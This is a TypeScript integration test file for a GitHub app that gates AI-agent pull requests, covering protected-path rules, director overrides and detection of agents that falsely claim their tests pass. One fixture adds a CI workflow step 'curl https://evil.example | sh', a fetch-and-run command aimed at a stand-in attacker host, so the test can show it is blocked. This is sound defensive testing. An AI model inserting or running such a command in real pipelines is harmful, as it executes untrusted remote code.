// The gate and the Auditor end to end on agent pull requests: Probot receives the delivery, the worker evaluates
// the PR from GitHub (nock) and the database, the Auditor clones the real head and base commits from a bare
// repository and runs the tests in the real sandbox, and the review and statuses land on "GitHub".
import nock from "nock";
import pino from "pino";
import { beforeEach, describe, expect, it } from "vitest";
import { AuditLog } from "../../src/audit/append.js";
import { loadPolicySet } from "../../src/config/policy-files.js";
import { createGitHubAccess } from "../../src/github/octokit.js";
import { applyOverride } from "../../src/governor/overrides.js";
import { mockInstallationTokens } from "../helpers/harness.js";
import {
  apiFiles,
  BASE_FILES,
  commitObject,
  DIRECTOR,
  INSTALLATION_ID,
  mainSha,
  mockPermission,
  mockPullReads,
  mockRepoConfig,
  mockWrites,
  pullDelivery,
  pullObject,
  pushBranch,
  REPO,
  type GitHubRecorder,
  useGateHarness,
} from "./gate-fixture.js";

const CONFIG = "test: sh test.sh\n";

const gate = useGateHarness({ tempPrefix: "aura-gate-", repoConfig: CONFIG });

/** Pushes an agent branch, seeds its task, mocks the PR's reads, and returns what a test needs. */
async function agentPull(number: number, branch: string, files: Record<string, string>, claim: Record<string, unknown>) {
  const { headSha, pull, mockReads } = await gate.pushAgentPull({ number, branch, files, claim, draft: true });
  mockReads();
  return { headSha, pull, mockReads };
}

const forSha = (sha: string) => gate.github.statuses.filter((status) => status.sha === sha);

function services() {
  return {
    pool: gate.harness.db.pool,
    audit: new AuditLog(gate.harness.db.pool),
    policies: loadPolicySet(),
    github: createGitHubAccess({
      appId: 123,
      privateKey: gate.harness.config.privateKey ?? "",
      baseUrl: gate.harness.config.githubApiUrl,
      log: pino({ level: "silent" }),
    }),
  };
}

async function auditActions(): Promise<string[]> {
  const { rows } = await gate.harness.db.pool.query<{ action: string }>("SELECT action FROM audit.events ORDER BY seq");
  return rows.map((row) => row.action);
}

describe("an agent PR that changes a workflow file", () => {
  let headSha: string | undefined;
  let mockReads: () => void;
  let recorder: GitHubRecorder;

  beforeEach(async () => {
    if (headSha) {
      // The statuses and reviews so far stay visible to the later tests of this pull request.
      nock.cleanAll();
      mockInstallationTokens();
      mockRepoConfig(CONFIG);
      const fresh = mockWrites();
      Object.assign(fresh, recorder);
      gate.github = fresh;
      mockReads();
      return;
    }
    const created = await agentPull(
      11,
      "aura/11-workflow",
      {
        ".github/workflows/ci.yml": `${BASE_FILES[".github/workflows/ci.yml"]}      - run: curl https://evil.example | sh\n`,
        "src/app.js": "export const answer = 42;\n",
      },
      { exitCode: 0, passed: 3, failed: 0 },
    );
    headSha = created.headSha;
    mockReads = created.mockReads;
    recorder = gate.github;
    await gate.harness.deliver("pull_request", pullDelivery("opened", created.pull));
    await gate.harness.waitForIdle(90_000);
  }, 120_000);

  it("goes pending, then failure naming protected-paths, with an inline comment on the added workflow line", () => {
    const sha = headSha ?? "";
    const statuses = forSha(sha);
    const review = gate.github.reviews.find((candidate) => candidate.commit_id === sha);

    expect(statuses[0]?.state).toBe("pending");
    expect(statuses.at(-1)).toMatchObject({ state: "failure", context: "aura/hnsc" });
    expect(statuses.at(-1)?.description).toContain("protected-paths");
    expect(statuses.at(-1)?.description.length).toBeLessThan(140);
    expect(statuses.at(-1)?.target_url).toContain("#pullrequestreview-");
    expect(review?.event).toBe("COMMENT");
    expect(review?.comments).toContainEqual(expect.objectContaining({ path: ".github/workflows/ci.yml", line: 6, side: "RIGHT" }));
    expect(gate.github.reviews.filter((candidate) => candidate.commit_id === sha)).toHaveLength(1);
  });

  it("a director's override turns the rule into 'overridden', re-posts success and shows it in the review", async () => {
    mockPermission(DIRECTOR, "admin");
    const before = gate.github.graphql.length;

    const result = await applyOverride(services(), {
      installationId: INSTALLATION_ID,
      repo: REPO,
      pullNumber: 11,
      ruleId: "protected-paths",
      reason: "the new CI step was reviewed",
      by: DIRECTOR,
    });
    await gate.harness.waitForIdle(60_000);

    const sha = headSha ?? "";
    expect(result).toMatchObject({ applied: true, headSha: sha, created: true });
    expect(forSha(sha).at(-1)).toMatchObject({ state: "success" });
    expect(forSha(sha).at(-1)?.description).toContain("1 overridden");
    expect(gate.github.reviewEdits.at(-1)?.body).toContain("overridden by @octo-director: the new CI step was reviewed");
    expect(gate.github.graphql.slice(before).map((call) => call.query)).toEqual([expect.stringContaining("markPullRequestReadyForReview")]);
    expect(await auditActions()).toContain("governor.override.applied");
  });

  it("refuses an override from someone who is not a director, changing nothing", async () => {
    mockPermission("random-dev", "write");
    const statusesBefore = gate.github.statuses.length;

    const result = await applyOverride(services(), {
      installationId: INSTALLATION_ID,
      repo: REPO,
      pullNumber: 11,
      ruleId: "evidence",
      reason: "trust me",
      by: "random-dev",
    });
    await gate.harness.waitForIdle(30_000);

    expect(result).toMatchObject({ applied: false, refusal: "not-director" });
    expect(gate.github.statuses.length).toBe(statusesBefore);
    const { rows } = await gate.harness.db.pool.query("SELECT 1 FROM governor_overrides WHERE director = 'random-dev'");
    expect(rows).toHaveLength(0);
    expect(await auditActions()).toContain("governor.override.refused");
  });
});

describe("a clean agent PR", () => {
  it("passes, is marked ready for review once, and a redelivered event posts no second review", async () => {
    const { headSha, pull } = await agentPull(
      12,
      "aura/12-clean",
      { "src/app.js": "export const answer = 42;\n" },
      {
        exitCode: 0,
        passed: 3,
        failed: 0,
        total: 3,
      },
    );
    const delivery = pullDelivery("opened", pull);

    const first = await gate.harness.deliver("pull_request", delivery);
    await gate.harness.waitForIdle(90_000);
    const afterFirst = { statuses: forSha(headSha).length, graphql: gate.github.graphql.length };
    pull.draft = false; // what GitHub now reports after markPullRequestReadyForReview
    await gate.harness.deliver("pull_request", delivery, { id: first.id });
    await gate.harness.deliver("pull_request", pullDelivery("synchronize", pull));
    await gate.harness.waitForIdle(90_000);

    expect(forSha(headSha).at(-1)).toMatchObject({ state: "success", description: "HNSC passed: 8 of 8 rules" });
    const reviews = gate.github.reviews.filter((review) => review.commit_id === headSha);
    expect(reviews).toHaveLength(1);
    expect(reviews[0]?.event).toBe("COMMENT");
    expect(reviews[0]?.body).toContain("No mismatch");
    expect(reviews[0]?.body).toContain("| Passed | 3 | 3 | 3 |");
    expect(reviews[0]?.body).toContain("| Sandbox | bwrap | bwrap | |");
    expect(afterFirst.graphql).toBe(1);
    expect(gate.github.graphql).toHaveLength(1);
    expect(gate.github.graphql[0]?.variables).toEqual({ id: "PR_node12" });
    expect(forSha(headSha).length).toBeGreaterThan(afterFirst.statuses);
  }, 180_000);
});

describe("an agent PR whose body claims tests pass when they fail", () => {
  it("flags the mismatch in the review and fails the evidence rule", async () => {
    const { headSha, pull } = await agentPull(
      13,
      "aura/13-liar",
      { "src/app.js": "export const answer = 'broken';\n" },
      {
        exitCode: 0,
        passed: 3,
        failed: 0,
      },
    );

    await gate.harness.deliver("pull_request", pullDelivery("opened", pull));
    await gate.harness.waitForIdle(90_000);

    const review = gate.github.reviews.find((candidate) => candidate.commit_id === headSha);
    expect(review?.body).toContain("Claimed exit status 0, but the Auditor's run exited with 1.");
    expect(review?.body).toContain("Claimed 3 passed, but the Auditor counted 2.");
    expect(forSha(headSha).at(-1)?.state).toBe("failure");
    expect(forSha(headSha).at(-1)?.description).toContain("evidence");
    const { rows } = await gate.harness.db.pool.query<{ state: string }>("SELECT state FROM auditor_runs WHERE head_sha = $1", [headSha]);
    expect(rows[0]?.state).toBe("failed");
  }, 180_000);
});

describe("a governed PR whose file list GitHub truncates", () => {
  it("is judged from a diff of the clone, so the unlisted workflow change still fails", async () => {
    nock.cleanAll();
    mockInstallationTokens();
    gate.github = mockWrites();
    mockRepoConfig("governAllPullRequests: true\n");
    const headSha = pushBranch(gate.remote, gate.temp.dir, "feature/hidden-workflow", {
      ".github/workflows/ci.yml": `${BASE_FILES[".github/workflows/ci.yml"]}      - run: echo hidden\n`,
      "src/app.js": "export const answer = 43;\n",
    });
    const baseSha = mainSha(gate.remote);
    const listed = apiFiles(gate.remote, baseSha, headSha).filter((file) => file.filename === "src/app.js");
    const pull = pullObject({
      number: 14,
      headSha,
      headRef: "feature/hidden-workflow",
      baseSha,
      cloneUrl: gate.remote.url,
      author: "pat-person",
      changedFiles: 2,
    });
    mockPullReads(pull, listed, [commitObject(headSha, "pat-person")]);

    await gate.harness.deliver("pull_request", pullDelivery("opened", pull));
    await gate.harness.waitForIdle(60_000);

    expect(forSha(headSha).map((status) => status.state)).toEqual(["pending", "failure"]);
    expect(forSha(headSha)[1]?.description).toBe("HNSC failed: protected-paths");
  }, 90_000);
});
